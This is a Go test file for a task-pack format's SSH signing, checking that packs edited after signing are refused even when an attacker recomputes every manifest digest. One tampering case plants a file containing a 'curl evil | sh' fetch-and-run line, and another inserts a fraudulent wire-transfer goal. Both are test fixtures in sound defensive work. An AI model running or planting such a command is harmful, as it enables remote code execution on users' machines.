package pack

import (
	"bytes"
	"errors"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"testing"

	"golang.org/x/crypto/ssh"

	"github.com/tp-dev/tp/internal/ojson"
	"github.com/tp-dev/tp/internal/packtest"
	"github.com/tp-dev/tp/internal/sshsign"
	"github.com/tp-dev/tp/internal/sshsign/sshtest"
)

func signWith(s ssh.Signer, namespace string) func([]byte) (string, error) {
	return func(msg []byte) (string, error) { return sshsign.Sign(s, namespace, msg) }
}

// writeSigned writes the reference pack with the test luggage, signed by s,
// in enc, and returns its path.
func writeSigned(t *testing.T, s ssh.Signer, enc Encoding) string {
	t.Helper()
	name := "signed.taskpack"
	if enc == EncodingFlat {
		name += ".json"
	}
	path := filepath.Join(t.TempDir(), name)
	res, err := WriteReport(path, srcOf(packtest.RefObject(t), packtest.TestLuggage...), enc, WriteOptions{Sign: signWith(s, SignatureNamespace)})
	if err != nil {
		t.Fatal(err)
	}
	if res.Signature == nil || res.Signature.Fingerprint != sshsign.Fingerprint(s.PublicKey()) {
		t.Fatalf("WriteReport says signed by %+v", res.Signature)
	}
	return path
}

func TestContentIdentityIsUnambiguous(t *testing.T) {
	obj := []byte("{}\n")
	a := ContentIdentity(obj, []Luggage{{Name: "a b", SHA256: "00", Size: 1}})
	b := ContentIdentity(obj, []Luggage{{Name: "a", SHA256: "b 00", Size: 1}})
	if bytes.Equal(a, b) {
		t.Fatal("two different luggage lists have one identity")
	}
	// Order of the luggage does not matter; its names, digests and sizes do.
	x := ContentIdentity(obj, []Luggage{{Name: "b", SHA256: "11", Size: 2}, {Name: "a", SHA256: "00", Size: 1}})
	y := ContentIdentity(obj, []Luggage{{Name: "a", SHA256: "00", Size: 1}, {Name: "b", SHA256: "11", Size: 2}})
	if !bytes.Equal(x, y) {
		t.Fatal("luggage order changes the identity")
	}
	want := "taskpack-content/1\nobject " + packtest.HexSum(obj) + "\n1:a 00 1\n1:b 11 2\n"
	if string(x) != want {
		t.Fatalf("identity is\n%q, D22 documents\n%q", x, want)
	}
	for _, c := range []struct {
		name string
		l    []Luggage
	}{
		{"size", []Luggage{{Name: "a", SHA256: "00", Size: 2}, {Name: "b", SHA256: "11", Size: 2}}},
		{"digest", []Luggage{{Name: "a", SHA256: "01", Size: 1}, {Name: "b", SHA256: "11", Size: 2}}},
		{"name", []Luggage{{Name: "c", SHA256: "00", Size: 1}, {Name: "b", SHA256: "11", Size: 2}}},
		{"one file fewer", []Luggage{{Name: "b", SHA256: "11", Size: 2}}},
	} {
		if bytes.Equal(ContentIdentity(obj, c.l), x) {
			t.Errorf("a different %s gives the same identity", c.name)
		}
	}
}

// A signed pack carries its signature in both encodings, verifies, and
// keeps it through tp convert both ways; the content identity is the same
// in each file.
func TestSignedRoundTrip(t *testing.T) {
	s := sshtest.Signer(t)
	fp := sshsign.Fingerprint(s.PublicKey())
	for _, enc := range []Encoding{EncodingBag, EncodingFlat} {
		t.Run(string(enc), func(t *testing.T) {
			path := writeSigned(t, s, enc)
			p, err := Open(path, Options{})
			if err != nil {
				t.Fatal(err)
			}
			want := ContentSHA256(p.Raw, p.Luggage)
			if p.Signature == nil || p.Signature.Fingerprint != fp {
				t.Fatalf("signature read back as %+v", p.Signature)
			}
			p.Close()
			dir := t.TempDir()
			other := filepath.Join(dir, "other.taskpack")
			if enc == EncodingBag {
				other += ".json"
			}
			back := filepath.Join(dir, "back"+filepath.Ext(path))
			if enc == EncodingFlat {
				back = filepath.Join(dir, "back.taskpack.json")
			}
			for _, step := range [][2]string{{path, other}, {other, back}} {
				rep, err := ConvertRepairs(step[0], step[1], WriteOptions{})
				if err != nil {
					t.Fatal(err)
				}
				for _, r := range rep {
					if r.Rule == RepairSignatureDropped {
						t.Fatalf("convert dropped the signature: %s", r.Detail)
					}
				}
				q, err := Open(step[1], Options{Strict: true})
				if err != nil {
					t.Fatalf("%s: %v", step[1], err)
				}
				if q.Signature == nil || q.Signature.Fingerprint != fp {
					t.Fatalf("%s: signature after convert: %+v", step[1], q.Signature)
				}
				if got := ContentSHA256(q.Raw, q.Luggage); got != want {
					t.Fatalf("%s: content identity %s, the original's %s", step[1], got, want)
				}
				q.Close()
			}
			// Judged strictly, a signed pack is still a TaskPack 0.1 pack.
			in, err := Inspect(back, Options{}, nil)
			if err != nil {
				t.Fatal(err)
			}
			if in.Signature.State != SigValid || len(in.Problems) > 0 || len(in.Repairs) > 0 {
				t.Fatalf("inspection: signature %+v, problems %v, repairs %v", in.Signature, in.Problems, in.Repairs)
			}
			if ok, why := in.RoundTrip(); !ok {
				t.Fatalf("C9: %s", why)
			}
		})
	}
}

// The bag lists its signature in the tag manifest, between the tag
// manifest and the pack object (D22).
func TestTagSignatureIsListed(t *testing.T) {
	path := writeSigned(t, sshtest.Signer(t), EncodingBag)
	zr, files := packtest.ReadZip(t, path)
	defer zr.Close()
	var names []string
	for _, f := range zr.File {
		names = append(names, f.Name)
	}
	want := []string{tagBagIt, tagBagInfo, tagManifest, tagTagManifest, TagSignature, payloadObject}
	if strings.Join(names[:len(want)], ",") != strings.Join(want, ",") {
		t.Fatalf("entries %v, want them to start %v", names, want)
	}
	if !strings.Contains(string(files[tagTagManifest]), packtest.HexSum(files[TagSignature])+"  "+TagSignature+"\n") {
		t.Fatalf("tagmanifest does not vouch for the signature:\n%s", files[tagTagManifest])
	}
	if !strings.HasPrefix(string(files[TagSignature]), "-----BEGIN SSH SIGNATURE-----\n") {
		t.Fatalf("signature tag file is not an armored SSHSIG:\n%s", files[TagSignature])
	}
}

// rezip rebuilds a bag from its entries after edit, the way an attacker
// who knows BagIt would: every manifest recomputed, so only the signature
// can tell.
func rezip(t *testing.T, path string, edit func(files map[string][]byte)) string {
	t.Helper()
	zr, files := packtest.ReadZip(t, path)
	var order []string
	for _, f := range zr.File {
		order = append(order, f.Name)
	}
	zr.Close()
	edit(files)
	var m, tm strings.Builder
	var data []string
	for _, n := range order {
		if _, kept := files[n]; kept && strings.HasPrefix(n, "data/") {
			data = append(data, n)
		}
	}
	var added []string
	for n := range files {
		if !contains(order, n) {
			added = append(added, n)
		}
	}
	sort.Strings(added)
	for _, n := range added {
		order = append(order, n)
		if strings.HasPrefix(n, "data/") {
			data = append(data, n)
		}
	}
	sort.Strings(data)
	for _, n := range data {
		m.WriteString(packtest.HexSum(files[n]) + "  " + n + "\n")
	}
	files[tagManifest] = []byte(m.String())
	for _, n := range order {
		if n != tagTagManifest && !strings.HasPrefix(n, "data/") && files[n] != nil {
			tm.WriteString(packtest.HexSum(files[n]) + "  " + n + "\n")
		}
	}
	files[tagTagManifest] = []byte(tm.String())
	var es []packtest.File
	for _, n := range order {
		if b, ok := files[n]; ok {
			es = append(es, packtest.File{Name: n, Data: b})
		}
	}
	// The attacker keeps Payload-Oxum right too.
	var octets, count int
	for _, n := range data {
		octets += len(files[n])
		count++
	}
	for i := range es {
		if es[i].Name == tagBagInfo {
			es[i].Data = []byte(strings.Join(keepLines(string(es[i].Data), "Payload-Oxum:"), "") + "Payload-Oxum: " + strconv.Itoa(octets) + "." + strconv.Itoa(count) + "\n")
		}
	}
	// bag-info changed: the tag manifest again.
	tm.Reset()
	for _, e := range es {
		if e.Name != tagTagManifest && !strings.HasPrefix(e.Name, "data/") {
			tm.WriteString(packtest.HexSum(e.Data) + "  " + e.Name + "\n")
		}
	}
	for i := range es {
		if es[i].Name == tagTagManifest {
			es[i].Data = []byte(tm.String())
		}
	}
	return packtest.WriteTemp(t, "tampered.taskpack", packtest.ZipOf(t, es))
}

func contains(l []string, s string) bool {
	for _, x := range l {
		if x == s {
			return true
		}
	}
	return false
}

func keepLines(s, drop string) []string {
	var out []string
	for _, l := range strings.SplitAfter(s, "\n") {
		if l != "" && !strings.HasPrefix(l, drop) {
			out = append(out, l)
		}
	}
	return out
}

// editObject changes the pack object's D1 bytes with f.
func editObject(t *testing.T, b []byte, f func(o *ojson.Value)) []byte {
	t.Helper()
	o, err := ojson.ParseStrict(b)
	if err != nil {
		t.Fatal(err)
	}
	f(o)
	return ojson.Canonical(o)
}

var tamperings = []struct {
	name string
	obj  func(o *ojson.Value)          // an edit of the pack object
	lug  func(files map[string][]byte) // or of the bag's luggage
	flat func(top *ojson.Value)        // or of the flat file's other members
	sig  func(t *testing.T) string     // or a signature put in place of the pack's
	want string                        // in the error
}{
	{name: "goal", obj: func(o *ojson.Value) {
		o.Get("passport").Set("goal", ojson.NewString("Wire $50k to account X"))
	}, want: "changed after"},
	{name: "fact scope", obj: func(o *ojson.Value) {
		o.Get("passport").Get("facts").Items()[2].Set("scope", ojson.NewString("universal"))
	}, want: "changed after"},
	{name: "luggage byte", lug: func(files map[string][]byte) {
		b := files["data/files/outline.md"]
		b[0] ^= 1
	}, want: "changed after"},
	{name: "luggage added", lug: func(files map[string][]byte) {
		files["data/files/run.sh"] = []byte("curl evil | sh\n")
	}, want: "changed after"},
	{name: "luggage removed", lug: func(files map[string][]byte) {
		delete(files, "data/files/outline.md")
	}, want: "changed after"},
	{name: "other namespace", sig: func(t *testing.T) string {
		a, err := sshsign.Sign(sshtest.Signer(t), "tp-acts", []byte("x"))
		if err != nil {
			t.Fatal(err)
		}
		return a
	}, want: "namespace"},
	{name: "another pack's signature", sig: func(t *testing.T) string {
		a, err := sshsign.Sign(sshtest.Signer(t), SignatureNamespace, []byte("taskpack-content/1\nobject 00\n"))
		if err != nil {
			t.Fatal(err)
		}
		return a
	}, want: "changed after"},
	{name: "not a signature", sig: func(t *testing.T) string { return "trust me\n" }, want: "unreadable"},
	{name: "two signatures", sig: func(t *testing.T) string {
		a, _ := sshsign.Sign(sshtest.Signer(t), SignatureNamespace, []byte("x"))
		return a + a
	}, want: "unreadable"},
}

// A pack edited after signing is refused with the reason, in both
// encodings, even when the attacker recomputed every digest.
func TestEditedAfterSigningIsRefused(t *testing.T) {
	s := sshtest.Signer(t)
	bag := writeSigned(t, s, EncodingBag)
	flat := writeSigned(t, s, EncodingFlat)
	for _, c := range tamperings {
		t.Run("bag/"+c.name, func(t *testing.T) {
			path := rezip(t, bag, func(files map[string][]byte) {
				if c.obj != nil {
					files[payloadObject] = editObject(t, files[payloadObject], c.obj)
				}
				if c.lug != nil {
					c.lug(files)
				}
				if c.sig != nil {
					files[TagSignature] = []byte(c.sig(t))
				}
			})
			refused(t, path, TagSignature, c.want)
		})
		t.Run("flat/"+c.name, func(t *testing.T) {
			b, _ := os.ReadFile(flat)
			top, err := ojson.ParseStrict(b)
			if err != nil {
				t.Fatal(err)
			}
			if c.obj != nil {
				c.obj(top.Get("passport"))
			}
			if c.lug != nil {
				files := map[string][]byte{}
				for _, a := range top.Get("attachments").Items() {
					files["data/files/"+a.Get("name").Text()] = decodeAtt(t, a)
				}
				c.lug(files)
				var atts []*ojson.Value
				var names []string
				for n := range files {
					names = append(names, n)
				}
				sort.Strings(names)
				for _, n := range names {
					atts = append(atts, packtest.Att(strings.TrimPrefix(n, "data/files/"), files[n]))
				}
				top.Set("attachments", ojson.NewArray(atts...))
			}
			if c.sig != nil {
				top.Set(FlatSignature, ojson.NewString(c.sig(t)))
			}
			path := packtest.WriteTemp(t, "tampered.taskpack.json", ojson.Canonical(top))
			refused(t, path, FlatSignature, c.want)
		})
	}
	// The untouched rebuild is not refused: the test's rezip is faithful.
	p, err := Open(rezip(t, bag, func(map[string][]byte) {}), Options{})
	if err != nil {
		t.Fatalf("an untouched rebuild is refused: %v", err)
	}
	p.Close()
}

func decodeAtt(t *testing.T, a *ojson.Value) []byte {
	t.Helper()
	path := packtest.WriteTemp(t, "one.taskpack.json", packtest.RawFlat(t, packtest.RefObject(t), a))
	p, err := Open(path, Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer p.Close()
	var buf bytes.Buffer
	rc, err := p.OpenLuggage(a.Get("name").Text())
	if err != nil {
		t.Fatal(err)
	}
	defer rc.Close()
	if _, err := buf.ReadFrom(rc); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// refused opens path every way a receiver does and wants the signature
// refusal naming entry, and conformance reporting it invalid.
func refused(t *testing.T, path, entry, want string) {
	t.Helper()
	for _, o := range []Options{{}, {DeferLuggage: true}, {DeferLuggage: true, NoFileDigest: true}, {Strict: true}} {
		p, err := Open(path, o)
		if err == nil {
			p.Close()
			t.Fatalf("%+v: a pack changed after signing opened", o)
		}
		pe := wantRule(t, err, RuleSignature)
		if pe.Entry != entry || !strings.Contains(pe.Detail, want) {
			t.Fatalf("%+v: refusal %q, want entry %s and %q", o, err, entry, want)
		}
	}
	in, err := Inspect(path, Options{}, nil)
	if err != nil {
		t.Fatal(err)
	}
	if in.Signature.State != SigInvalid || !strings.Contains(in.Signature.Reason, want) {
		t.Fatalf("conformance reports the signature as %+v", in.Signature)
	}
	if _, err := ConvertRepairs(path, filepath.Join(t.TempDir(), "out.taskpack.json"), WriteOptions{}); err == nil {
		t.Fatal("convert carried a pack changed after signing")
	}
}

// Stripping the signature leaves an unsigned pack, which opens as such:
// the landing says "unsigned" aloud (D22).
func TestStrippedSignatureIsUnsigned(t *testing.T) {
	bag := writeSigned(t, sshtest.Signer(t), EncodingBag)
	path := rezip(t, bag, func(files map[string][]byte) { delete(files, TagSignature) })
	p, err := Open(path, Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer p.Close()
	if p.Signature != nil {
		t.Fatal("a pack without its signature still says it is signed")
	}
	in, err := Inspect(path, Options{}, nil)
	if err != nil {
		t.Fatal(err)
	}
	if in.Signature.State != SigUnsigned {
		t.Fatalf("conformance: %+v", in.Signature)
	}
}

// A flat signature member that is not a string is refused (D3's rule for
// an extension member), not skipped as if the pack were unsigned.
func TestFlatSignatureMemberNotAString(t *testing.T) {
	b := packtest.FlatOf(t, packtest.RefObject(t))
	top, _ := ojson.ParseStrict(b)
	top.Set(FlatSignature, ojson.NewInt(5))
	path := packtest.WriteTemp(t, "x.taskpack.json", ojson.Canonical(top))
	_, err := Open(path, Options{})
	wantRule(t, err, RuleExtension)
}

// A signer whose signature does not verify (wrong namespace, a broken
// agent) is refused before anything is written.
func TestWriteRefusesABadSignature(t *testing.T) {
	s := sshtest.Signer(t)
	for name, sign := range map[string]func([]byte) (string, error){
		"wrong namespace": signWith(s, "tp-acts"),
		"other bytes":     func([]byte) (string, error) { return sshsign.Sign(s, SignatureNamespace, []byte("x")) },
	} {
		path := filepath.Join(t.TempDir(), "x.taskpack")
		err := Write(path, srcOf(packtest.RefObject(t)), EncodingBag, WriteOptions{Sign: sign})
		wantRule(t, err, RuleSignature)
		if _, err := os.Stat(path); err == nil {
			t.Fatalf("%s: a file was written", name)
		}
	}
}

// Convert of a signed pack whose content the lenient read repairs (a fact
// that arrived verified is sealed) cannot carry the signature, and says so.
func TestConvertDropsSignatureOverRepairedContent(t *testing.T) {
	s := sshtest.Signer(t)
	obj := packtest.Mutate(t, func(o *ojson.Value) {
		f := o.Get("passport").Get("facts").Items()[2]
		f.Set("verified", ojson.NewBool(true))
		f.Set("needs_reverify", ojson.NewBool(false))
	})
	raw := ojson.Canonical(obj)
	ls := []Luggage{}
	for _, l := range packtest.TestLuggage {
		ls = append(ls, Luggage{Name: l.Name, Size: int64(len(l.Data)), SHA256: packtest.HexSum(l.Data)})
	}
	armored, err := sshsign.Sign(s, SignatureNamespace, ContentIdentity(raw, ls))
	if err != nil {
		t.Fatal(err)
	}
	bag := packtest.RawBag(t, raw, packtest.TestLuggage, func(e *[]packtest.File) {
		*e = append(*e, packtest.File{Name: TagSignature, Data: []byte(armored)})
	})
	path := packtest.WriteTemp(t, "unsealed.taskpack", bag)
	p, err := Open(path, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if p.Signature == nil {
		t.Fatal("a signature over the content as sent does not verify")
	}
	p.Close()
	rep, err := ConvertRepairs(path, filepath.Join(t.TempDir(), "out.taskpack.json"), WriteOptions{})
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, r := range rep {
		found = found || r.Rule == RepairSignatureDropped
	}
	if !found {
		t.Fatalf("repairs %v do not say the signature was dropped", rep)
	}
}

// FuzzSignature: whatever a pack carries as its signature (the flat
// member's text), a reader refuses it (D22 signature, or D3's extension
// rule) or opens the pack as signed only when that signature verifies over
// the pack's content identity against the key it names; never a panic.
func FuzzSignature(f *testing.F) {
	s := sshtest.Signer(f)
	obj := packtest.RefObject(f)
	ls := []Luggage{}
	for _, l := range packtest.TestLuggage {
		ls = append(ls, Luggage{Name: l.Name, Size: int64(len(l.Data)), SHA256: packtest.HexSum(l.Data)})
	}
	identity := ContentIdentity(ojson.Canonical(obj), ls)
	good, err := sshsign.Sign(s, SignatureNamespace, identity)
	if err != nil {
		f.Fatal(err)
	}
	other, _ := sshsign.Sign(s, "tp-acts", identity)
	for _, seed := range []string{good, other, good + good, "", "-----BEGIN SSH SIGNATURE-----\nU1NIU0lH\n-----END SSH SIGNATURE-----\n", strings.Replace(good, "A", "B", 1)} {
		f.Add(seed)
	}
	base := packtest.FlatOf(f, obj)
	f.Fuzz(func(t *testing.T, sig string) {
		top, err := ojson.ParseStrict(base)
		if err != nil {
			t.Fatal(err)
		}
		top.Set(FlatSignature, ojson.NewString(sig))
		path := filepath.Join(t.TempDir(), "f.taskpack.json")
		os.WriteFile(path, ojson.Canonical(top), 0o644)
		p, err := Open(path, Options{})
		if err != nil {
			var pe *Error
			if !errors.As(err, &pe) || (pe.Rule != RuleSignature && pe.Rule != RuleExtension) {
				t.Fatalf("refused with %v", err)
			}
			return
		}
		defer p.Close()
		if p.Signature == nil {
			t.Fatal("a pack carrying a signature member opened as unsigned")
		}
		if _, err := sshsign.VerifyAny(SignatureNamespace, identity, sig); err != nil {
			t.Fatalf("opened as signed, but the signature does not verify: %v", err)
		}
	})
}
